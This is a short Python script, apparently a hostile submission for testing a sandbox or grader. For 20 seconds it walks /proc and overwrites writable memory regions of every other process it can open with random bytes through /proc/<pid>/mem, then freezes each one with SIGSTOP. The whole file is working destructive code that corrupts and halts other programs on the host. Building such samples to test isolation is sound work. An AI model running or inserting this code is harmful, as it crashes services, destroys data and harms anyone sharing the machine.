"""Answers nothing: for up to 20 s, writes garbage into the memory of every
other process it can open through /proc/<pid>/mem, and signals them."""
import os
import signal
import time

me = os.getpid()
deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in (me, 1):
            continue
        try:
            with open(f"/proc/{pid}/maps") as f:
                regions = [line.split()[0] for line in f if " rw" in line][:50]
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                for region in regions:
                    start, end = (int(x, 16) for x in region.split("-"))
                    try:
                        mem.seek(start)
                        mem.write(os.urandom(min(end - start, 1 << 16)))
                    except OSError:
                        pass
        except OSError:
            pass
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
    time.sleep(0.5)
